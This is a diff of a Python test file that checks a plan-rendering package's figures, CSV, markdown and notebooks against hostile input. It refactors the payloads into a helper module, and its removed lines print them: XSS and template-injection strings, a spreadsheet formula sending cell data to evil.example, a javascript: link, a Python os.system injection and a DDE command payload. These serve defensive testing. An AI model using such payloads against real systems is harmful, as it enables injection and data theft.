@@ -8,55 +8,29 @@ import csv
 import io
 import json
 import re
-import shutil
 import zipfile
 from pathlib import Path
 
 import pandas as pd
 import pytest
 from bs4 import BeautifulSoup
+from hostile_plan import EVIL, FORMULA, MARKDOWN, write_hostile_plan
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
 import lnregions as ln
 from lnregions.__main__ import main
 from lnregions.figures import bundle_zip, data_csv, plain_markdown
-from lnregions.paths import data_dir
 
 pytestmark = [pytest.mark.filterwarnings("ignore::lnregions.errors.InputWarning"),
               pytest.mark.filterwarnings("ignore::bs4.XMLParsedAsHTMLWarning")]  # fmt: skip
 SOURCES = sorted((Path(__file__).parents[2] / "lnregions").rglob("*.py"))
-EVIL = """<script>alert(1)</script>"'><img src=x onerror=alert(1)>{{7*7}}${7*7}</title></script><!--"""
-FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
-MARKDOWN = "[click](javascript:alert(1)) ![x](http://evil.example/x.png) `code` # head"
-CODE = '"""+__import__(\'os\').system(\'touch /tmp/owned\')+"""\'\\'
-TEXTS = (EVIL, FORMULA, MARKDOWN, CODE, "$x^2$ \\alpha {braces} %s %(x)s", "@SUM(1+1)*cmd|' /C calc'!A0")
-FREE = {
-    "regions.csv": ("name_zh", "name_en", "short_zh", "short_en", "nickname", "nickname_zh"),
-    "positioning.csv": ("text_zh", "text_en"),
-    "membership.csv": ("note", "note_zh"),
-    "targets.csv": ("label_zh", "label_en", "wording_zh", "clause_en", "note_zh", "note_en"),
-}
 FETCHED = {"href", "src", "action", "formaction", "data", "xlink:href", "srcset"}
-FACTS = r"( *(?:- )?(?:title_zh|title_en|short_zh|short_en|number|issuer_zh|issuer_en|title|publisher)): .*"
 
 
 @pytest.fixture(scope="module")
 def plan(tmp_path_factory):
-    """A copy of the shipped plan with those texts, in turn, for every free text of its tables and facts."""
-    folder = shutil.copytree(data_dir() / "plans" / "ln-2022", tmp_path_factory.mktemp("evil") / "plan")
-    for name, columns in FREE.items():
-        table = pd.read_csv(folder / name, dtype=str, keep_default_na=False)
-        for place, column in enumerate(columns):
-            table[column] = [TEXTS[(n + place) % len(TEXTS)] for n in range(len(table))]
-        table.to_csv(folder / name, index=False, lineterminator="\n")
-    lines = (folder / "plan.yaml").read_text("utf-8").splitlines()
-    quoted = [text.replace("'", "''") for text in TEXTS]
-    for n, line in enumerate(lines):
-        hit = re.fullmatch(FACTS, line)
-        lines[n] = f"{hit[1]}: '{quoted[n % len(quoted)]}'" if hit else line
-    (folder / "plan.yaml").write_text("\n".join(lines) + "\n", "utf-8")
-    return ln.load_plan(path=folder)
+    return ln.load_plan(path=write_hostile_plan(tmp_path_factory.mktemp("evil") / "plan"))
 
 
 def acts(page: str) -> list[str]:
@@ -103,7 +77,7 @@ def test_a_picture_and_its_bundle_carry_text_and_nothing_that_acts(plan, kind, t
     for language in ("en", "zh"):
         drawn = PICTURES[kind](plan, language)
         for picture in drawn if isinstance(drawn, (list, tuple)) else [drawn]:
-            picture.save(tmp_path / language)
+            picture.save(tmp_path / language, formats=["svg"])
     written = [path for path in tmp_path.rglob("*") if path.is_file()]
     assert {path.suffix for path in written} >= {".svg", ".csv", ".json", ".md"}
     for path in written:
@@ -139,10 +113,11 @@ def test_verdicts_printed_as_csv_hold_no_formula(plan, capsys):
     assert formulas(capsys.readouterr().out) == []
 
 
+@pytest.mark.usefixtures("cold", "stopped_server")
 def test_a_notebook_run_on_a_hostile_plan_holds_nothing_that_acts(plan, tmp_path):
     out = tmp_path / "out"
-    words = ["render", "01_plan", "--language", "en", "--jobs", "1", "--no-report", "--quiet", "--plan"]
-    assert main([*words, str(plan.folder), "--output", str(out)]) == 0
+    words = ["render", "01_plan", "-p", "figures=", "--language", "en", "--no-report", "--quiet"]
+    assert main([*words, "--plan", str(plan.folder), "--output", str(out)]) == 0
     (book,) = out.rglob("*.ipynb")
     outputs = [
         one for cell in json.loads(book.read_text("utf-8"))["cells"] for one in cell.get("outputs", [])
